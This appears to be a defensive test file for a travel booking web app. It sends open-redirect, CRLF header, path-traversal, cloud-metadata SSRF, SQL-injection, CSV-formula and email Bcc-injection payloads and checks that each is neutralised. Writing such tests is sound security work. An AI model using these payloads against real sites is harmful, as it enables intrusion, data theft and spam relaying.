import { afterEach, beforeAll, expect, test, vi } from 'vitest';
import { contactMessages, outbox, settings, subscribers, transferRequests, tripRequests } from '#db/schema.ts';
import { deliverDue } from '#mail/delivery.ts';
import { anAdmin } from './test/admin.ts';
import { aBlogCategory, aTrip, aTripType, db } from './test/builders.ts';
import { bindings, ORIGIN, postForm, postJson, send } from './test/client.ts';
import { aTransferRequest, aTransferTable, SUMMER_DAY } from './test/transfer-table.ts';

const admin = await anAdmin();
beforeAll(async () => {
  await aTransferTable();
  await aTripType({ id: 1 });
  await aTrip({ id: 1 });
});
afterEach(() => void vi.restoreAllMocks());

test.each([
  '//elsewhere.example',
  '//elsewhere.example/',
  '/\\elsewhere.example/',
  '/de//elsewhere.example/',
  '/%2f%2felsewhere.example/',
  '/%5celsewhere.example/',
  '/de/%2e%2e//elsewhere.example/',
  '/https://elsewhere.example/',
  '/DE/Trips/?next=//elsewhere.example',
  '/de/trips/%0d%0aSet-Cookie:%20a=b/',
  '/de/trips/%0d%0aLocation:%20https://elsewhere.example/',
])('%s leads nowhere but to an address of the site', async (path) => {
  const response = await send(path);
  const location = response.headers.get('Location');
  expect(response.status).toBeLessThan(500);
  expect(response.headers.has('Set-Cookie')).toBe(false);
  if (location === null) return;
  expect(new URL(location, ORIGIN).origin).toBe(ORIGIN);
  expect(location).toMatch(/^\/(?![/\\])/);
});

test.each(['//elsewhere.example', '/\\elsewhere.example', 'https://elsewhere.example', 'javascript:alert(1)', '/a\r\nSet-Cookie: x=1'])(
  'a form that names %j as its page goes to no other site',
  async (page) => {
    const response = await postForm('/api/subscribe', { form: 'newsletter', page, email: 'ada@example.com' });
    const location = response.headers.get('Location');
    expect(response.status).toBeLessThan(500);
    if (location) expect(new URL(location, ORIGIN).origin).toBe(ORIGIN);
    expect(response.headers.get('Set-Cookie')).toBeNull();
  },
);

test.each([
  '/api/images/optimize/..%2f..%2f..%2fetc%2fpasswd?width=20',
  '/api/images/optimize/%2e%2e/%2e%2e/secret.jpg?width=20',
  '/api/images/optimize/....//....//x.jpg?width=20',
  '/api/images/optimize/..%5c..%5cx.jpg?width=20',
  '/api/images/optimize/%252e%252e%252fx.jpg?width=20',
  '/api/images/optimize/originals/a.jpg?width=20',
  '/api/images/optimize/a.jpg%00.png?width=20',
  '/api/images/optimize/http://169.254.169.254/latest/meta-data?width=20',
  '/api/images/optimize/data:image/svg+xml,%3Csvg%3E?width=20',
  '/locales/../../package.json',
  '/locales/de/..%2f..%2fpackage.json',
  '/locales/..%2fde/common.json',
  '/locales/de%00/common.json',
  '/locales/DE/common.json',
])('%s finds nothing', async (path) => {
  expect((await send(path)).status).toBe(404);
});

const FAR = 'http://169.254.169.254/latest/meta-data/';
test('no address that somebody types is ever asked by the worker', async () => {
  const asked = vi.spyOn(globalThis, 'fetch').mockImplementation(async () => new Response(null, { status: 418 }));
  const { id: categoryId } = await aBlogCategory();
  const trip = { name: 'Far', slug: 'far', description: `![x](${FAR}) ${FAR}`, image: FAR, tripTypeId: 1, region: 'north', location: FAR };
  const writes = [
    [
      '/trips',
      'POST',
      { ...trip, duration: '2 h', durationClass: 'half-day', price: 1, rating: null, gallery: [FAR], status: 'published' },
    ],
    ['/hero-banners', 'POST', { image: FAR, title: 'Far', buttonLink: 'https://169.254.169.254/' }],
    ['/testimonials', 'POST', { text: FAR, rating: 5, avatar: FAR, name: 'Ada', country: 'ES' }],
    [
      '/seo',
      'POST',
      { page: 'home', title: { en: 'Far' }, description: {}, canonicalUrl: FAR, image: FAR, schema: { '@id': FAR, image: FAR } },
    ],
    ['/redirects', 'POST', { fromPath: '/far', toPath: FAR }],
    ['/settings', 'PUT', { version: 1, siteName: 'Far', social: [{ name: 'Far', url: FAR }] }],
    [
      '/blog/posts',
      'POST',
      {
        slug: 'far',
        title: 'Far',
        excerpt: FAR,
        body: `![x](${FAR}) <img src="${FAR}">`,
        cover: FAR,
        categoryId,
        author: FAR,
        status: 'published',
      },
    ],
    ['/blog/preview', 'POST', { body: `![x](${FAR})` }],
  ] as const;
  for (const [path, method, body] of writes) expect((await admin(path, method, body)).status, path).toBeLessThan(300);
  await postJson('/api/contact/whatsapp-message', { name: FAR, email: 'ada@example.com', message: FAR, source: FAR });
  for (const path of [
    '/en',
    '/en/trips/2',
    '/en/blog/far',
    '/en/blog',
    '/far',
    '/en/blog/feed.xml',
    '/og/en/trips.jpg',
    '/api/trips',
    `/en/search?q=${FAR}`,
  ])
    expect((await send(path)).status, path).toBeLessThan(500);
  expect(asked).not.toHaveBeenCalled();
});

const SQL = [
  "' OR '1'='1",
  '" OR 1=1 --',
  "'; DROP TABLE trips; --",
  "') UNION SELECT password_hash FROM users --",
  'NEAR("a" "b")',
  'a* OR b*',
  '%',
  '_%_',
  '\\',
  '"',
];
const LISTS = ['/api/search', '/api/trips', '/api/destinations', '/api/blog/posts', '/api/transfers/places'];
const ADMIN_LISTS = [
  '/trips',
  '/destinations',
  '/blog/posts',
  '/users',
  '/transfers',
  '/trip-requests',
  '/messages',
  '/subscribers',
  '/outbox',
  '/audit',
  '/redirects',
  '/images',
];

test('a search for pieces of SQL finds the words, or nothing', async () => {
  const before = await db.select().from(tripRequests);
  for (const [n, text] of SQL.entries()) {
    for (const path of LISTS) {
      const address = { 'CF-Connecting-IP': `203.0.113.${n}` };
      const response = await send(
        `${path}?q=${encodeURIComponent(text)}&lang=en&sort=${encodeURIComponent(text)}&type=${encodeURIComponent(text)}`,
        { headers: address },
      );
      expect(response.status, `${path} ${text}`).toBe(200);
      expect(await response.text(), `${path} ${text}`).not.toMatch(/scrypt|SQLITE|syntax error/i);
    }
    for (const path of ADMIN_LISTS) {
      const response = await admin(
        `${path}?q=${encodeURIComponent(text)}&sort=${encodeURIComponent(text)}&status=${encodeURIComponent(text)}&page=${encodeURIComponent(text)}`,
      );
      expect(response.status, `${path} ${text}`).toBe(200);
      expect(await response.text(), `${path} ${text}`).not.toMatch(/scrypt|SQLITE|syntax error/i);
    }
  }
  expect((await send('/api/trips/1')).status).toBe(200);
  expect(await db.select().from(tripRequests)).toEqual(before);
});

const FORMULA = '=HYPERLINK("https://elsewhere.example?"&A1,"x")';
test('no export holds a formula, whoever typed it', async () => {
  const agreed = { language: 'de', privacyEdition: '1', privacyAcceptedAt: '2026-01-01T00:00:00.000Z' } as const;
  await db
    .insert(contactMessages)
    .values({ name: FORMULA, email: '+cmd@example.com', message: `-2+3${FORMULA}`, language: 'en', source: '@SUM(1)', digest: 'd' });
  await db
    .insert(subscribers)
    .values({ email: '=cmd|x@example.com', language: 'en', consentSource: '\t=1+1', requestedAt: '2026-01-01T00:00:00.000Z' });
  await db.insert(tripRequests).values({
    id: 'r',
    reference: 'REF00001',
    manageTokenHash: 'h',
    tripId: 1,
    localDate: '2027-06-12',
    adults: 2,
    digest: 'd',
    contactName: FORMULA,
    message: ' =1+1',
    ...agreed,
  });
  await aTransferRequest({ contact: { name: FORMULA, email: 'ada@example.com' }, signName: '+1', note: '@SUM(1+1)' });
  const from = `${Number(SUMMER_DAY.slice(0, 4))}-06-01`;
  for (const path of [
    '/messages/export.csv',
    '/subscribers/export.csv',
    '/trip-requests/export.csv',
    `/transfers/export.csv?from=${from}&to=${SUMMER_DAY}`,
  ]) {
    const response = await admin(path);
    expect([response.status, response.headers.get('Content-Disposition')?.split(';')[0]], path).toEqual([200, 'attachment']);
    const text = await response.text();
    expect(text.split('\r\n').length, path).toBeGreaterThan(2);
    // A cell begins at a quote that follows a comma or the line's beginning.
    expect(text.match(/(?:^|,|\n)"\s*[=+\-@]/g) ?? [], path).toEqual([]);
    expect(text, path).toContain(`"'`);
  }
});

test('what a guest types adds no line to a mail’s head, on its way to the provider', async () => {
  const name = 'Eve\r\nBcc: all@elsewhere.example\r\n\r\nBody';
  await aTransferRequest({ contact: { name, email: 'eve@example.com' }, signName: name });
  await postJson('/api/trips/1/requests', {
    date: SUMMER_DAY,
    adults: 2,
    childAges: [],
    contact: { name, email: 'eve@example.com' },
    message: name,
    language: 'en',
    privacyAccepted: true,
  });
  const heads: Record<string, unknown>[] = [];
  vi.spyOn(globalThis, 'fetch').mockImplementation(async (_url, init) => {
    const { from, to, reply_to: replyTo, subject } = JSON.parse(String(init?.body)) as Record<string, unknown>;
    // An answer that leads elsewhere is not followed.
    expect(init?.redirect).toBe('manual');
    heads.push({ from, to, replyTo, subject });
    return Response.json({});
  });
  await db
    .insert(settings)
    .values({ key: 'mail', value: { driver: 'http', senderAddress: 'firm@example.com' } })
    .onConflictDoNothing();
  // The local default keeps mails; here they go out.
  await db.update(outbox).set({ status: 'pending', attempts: 0, nextAttemptAt: '2026-01-01T00:00:00.000Z' });
  await deliverDue({ ...bindings, MAIL_ENDPOINT: 'https://provider.example/emails' }, db);
  expect(heads.length).toBeGreaterThan(2);
  for (const head of heads) expect(JSON.stringify(head)).not.toMatch(/\\r|\\n|\\u2028/);
  for (const email of ['eve@example.com\r\nBcc: x@elsewhere.example', 'a@b.example,c@d.example', '"a b"@example.com']) {
    const response = await postJson('/api/subscribe', { email });
    expect([response.status, (await db.select().from(subscribers)).some((one) => /elsewhere|,/.test(one.email))], email).toEqual([
      422,
      false,
    ]);
  }
  expect(await db.select().from(transferRequests)).not.toEqual([]);
});
